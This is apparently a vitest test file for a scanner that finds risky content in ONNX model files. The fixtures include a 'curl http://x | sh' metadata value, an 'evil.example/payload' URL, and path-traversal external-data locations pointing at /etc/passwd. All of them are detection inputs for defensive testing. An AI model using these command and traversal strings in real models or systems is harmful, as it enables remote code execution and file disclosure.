import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildModel, encodeOnnx, externalTensor, FLOAT, node, tag } from '../../formats/onnx/test-support.js';
import { analyseBytes, ruleList } from '../test-support.js';

const fixture = (name: string) =>
  new Uint8Array(readFileSync(new URL(`../../formats/onnx/fixtures/${name}`, import.meta.url)));
const attr = (name: string, s: string) => ({ name, type: 3, s: new TextEncoder().encode(s) });
const scan = (bytes: Uint8Array, path = 'model.onnx') => analyseBytes(bytes, path);

describe('onnx analyser', () => {
  it('reports nothing for models of standard operators, local functions and valid external data', async () => {
    for (const name of ['safe-add-matmul.onnx', 'local-function.onnx', 'external-valid/model.onnx']) {
      const result = await scan(fixture(name), name);
      expect(result.format, name).toBe('onnx');
      expect(result.findings, name).toEqual([]);
      expect(result.notAnalysed).toBe(0);
    }
  });

  it('reports a custom operator domain at medium, naming the op, node, domain and graph path', async () => {
    const result = await scan(fixture('custom-domain.onnx'));
    expect(ruleList(result.findings)).toEqual(['ONNX-CUSTOM-OP:medium']);
    expect(result.findings[0]?.message).toContain(
      "node 'fancy_0' (com.example.ops::FancyActivation) at graph/node 0",
    );
    expect(result.findings[0]?.evidence).toContain(
      "graph/node 0: com.example.ops::FancyActivation 'fancy_0'",
    );
  });

  it('finds a custom operator inside an If branch', async () => {
    const result = await scan(fixture('if-subgraph-custom.onnx'));
    expect(ruleList(result.findings)).toEqual(['ONNX-CUSTOM-OP:medium']);
    expect(result.findings[0]?.message).toContain('graph/If_0.then_branch/node 0');
  });

  it('reports Python operators at high, and a PyOp naming a dangerous callable at critical', async () => {
    const contrib = await scan(fixture('pyop-contrib.onnx'));
    expect(ruleList(contrib.findings)).toEqual(['ONNX-PYTHON-OP:high']);
    expect(contrib.findings[0]?.message).toMatch(/ai\.onnx\.contrib::ReverseMatrix.*@onnx_op/);
    const interop = await scan(fixture('pyop-interop.onnx'));
    expect(ruleList(interop.findings)).toEqual(['ONNX-PYTHON-OP:critical']);
    expect(interop.findings[0]?.message).toContain('os.system');
    const benign = buildModel({
      node: [
        node('PyOp', { domain: 'my', attribute: [attr('module', 'mymodule'), attr('class_name', 'Multi')] }),
        node('PythonOp', { domain: 'com.microsoft' }),
        node('PyFunc', { domain: '' }),
      ],
    });
    const result = await scan(benign);
    expect(ruleList(result.findings)).toEqual([
      'ONNX-PYTHON-OP:high',
      'ONNX-PYTHON-OP:high',
      'ONNX-PYTHON-OP:high',
    ]);
  });

  it("treats onnxruntime-extensions' native operators as a custom library, and vendor domains as info", async () => {
    const result = await scan(
      buildModel({
        node: [
          node('GPT2Tokenizer', { domain: 'ai.onnx.contrib' }),
          node('QLinearSigmoid', { domain: 'com.microsoft' }),
          node('QLinearSigmoid', { domain: 'com.microsoft' }),
          node('ReorderInput', { domain: 'com.microsoft.nchwc' }),
          node('Relu', { domain: 'ai.onnx' }),
          node('LinearRegressor', { domain: 'ai.onnx.ml' }),
        ],
      }),
    );
    expect(ruleList(result.findings)).toEqual(['ONNX-CUSTOM-OP:info', 'ONNX-CUSTOM-OP:medium']);
    const info = result.findings.find((f) => f.severity === 'info');
    // Evidence lines are joined with newlines, shown escaped like every control character.
    expect(info?.evidence).toBe('com.microsoft.nchwc::ReorderInput ×1\\x0acom.microsoft::QLinearSigmoid ×2');
  });

  it('groups many nodes of one custom operator into one finding', async () => {
    const nodes = Array.from({ length: 30 }, (_, i) => node('Op', { name: `n${i}`, domain: 'acme' }));
    const result = await scan(buildModel({ node: nodes }));
    expect(ruleList(result.findings)).toEqual(['ONNX-CUSTOM-OP:medium']);
    expect(result.findings[0]?.message).toMatch(/^30 nodes use the custom operator acme::Op/);
    expect(result.findings[0]?.evidence).toMatch(/… 10 more$/);
  });

  it('reports external data outside the model folder at high', async () => {
    for (const [name, location] of [
      ['external-traversal.onnx', '../../etc/passwd'],
      ['external-absolute.onnx', '/etc/passwd'],
    ] as const) {
      const result = await scan(fixture(name));
      expect(ruleList(result.findings), name).toEqual(['ONNX-EXTERNAL-DATA:high']);
      expect(result.findings[0]?.evidence).toContain(`location: ${location}`);
    }
    for (const location of [
      'https://example.com/w.bin',
      'C:\\Windows\\win.ini',
      '\\\\server\\share\\w.bin',
      'data/../../w.bin',
      'w.bin\u0000.txt',
    ]) {
      const result = await scan(buildModel({ initializer: [externalTensor(location)] }));
      expect(ruleList(result.findings), location).toEqual(['ONNX-EXTERNAL-DATA:high']);
    }
    const missing = await scan(buildModel({ initializer: [externalTensor('')] }));
    expect(ruleList(missing.findings)).toEqual(['ONNX-EXTERNAL-DATA:medium']);
  });

  it('reports tensors whose sizes do not fit and overlapping external ranges', async () => {
    expect(ruleList((await scan(fixture('raw-size-mismatch.onnx'))).findings)).toEqual([
      'ONNX-TENSOR-SIZE:medium',
    ]);
    const overlap = await scan(
      buildModel({
        initializer: [
          { ...externalTensor('w.bin'), name: 'a' },
          { ...externalTensor('w.bin', { offset: '8' }), name: 'b' },
        ],
      }),
    );
    expect(ruleList(overlap.findings)).toEqual(['ONNX-TENSOR-SIZE:medium']);
    expect(overlap.findings[0]?.message).toMatch(/share bytes 8-16 of external file 'w.bin'/);
  });

  it('reports code, commands and URLs in metadata and doc strings', async () => {
    expect(ruleList((await scan(fixture('metadata-code.onnx'))).findings)).toEqual(['ONNX-METADATA:high']);
    const result = await scan(
      buildModel(
        {
          doc_string: 'see https://evil.example/payload',
          metadata_props: [{ key: 'p', value: 'curl http://x | sh' }],
        },
        { doc_string: 'Exported from PyTorch' },
      ),
    );
    expect(ruleList(result.findings)).toEqual(['ONNX-METADATA:medium', 'ONNX-METADATA:medium']);
  });

  it('reports a graph split over two graph fields, and still sees both halves', async () => {
    const first = encodeOnnx('ModelProto', { ir_version: 8, graph: { node: [node('Relu')] } });
    const second = encodeOnnx('ModelProto', { graph: { node: [node('Evil', { domain: 'x' })] } });
    const result = await scan(new Uint8Array([...first, ...second]));
    expect(ruleList(result.findings)).toEqual(['ONNX-CUSTOM-OP:medium', 'ONNX-STRUCTURE:low']);
  });

  it('reports a malformed model as not analysed, with the offset', async () => {
    const bytes = fixture('safe-add-matmul.onnx');
    const result = await scan(bytes.subarray(0, bytes.length - 3));
    expect(result.format).toBe('onnx');
    expect(ruleList(result.findings)).toEqual(['ONNX-MALFORMED:medium']);
    expect(result.notAnalysed).toBe(1);
    expect(result.findings[0]?.location.offset).toBeGreaterThan(0);
    const garbage = await scan(new Uint8Array([...tag(1, 0), 8, ...tag(2, 2), 0xff, 0xff, 0xff, 0xff, 0x0f]));
    expect(ruleList(garbage.findings)).toEqual(['ONNX-MALFORMED:medium']);
  });

  it('analyses a model with 64 MB of inline weights without reading them', async () => {
    const raw = new Uint8Array(64 * 1024 * 1024);
    const bytes = buildModel({
      initializer: [{ name: 'w', dims: [raw.length / 4], data_type: FLOAT, raw_data: raw }],
    });
    let read = 0;
    const source = {
      size: bytes.length,
      readAt(position: number, length: number) {
        const out = bytes.subarray(position, Math.min(bytes.length, position + length));
        read += out.length;
        return out;
      },
    };
    const result = await analyseBytes(source, 'big.onnx');
    expect(result.findings).toEqual([]);
    expect(read).toBeLessThan(4 * 1024 * 1024); // reader windows of 1 MB, never the payload
  });
});
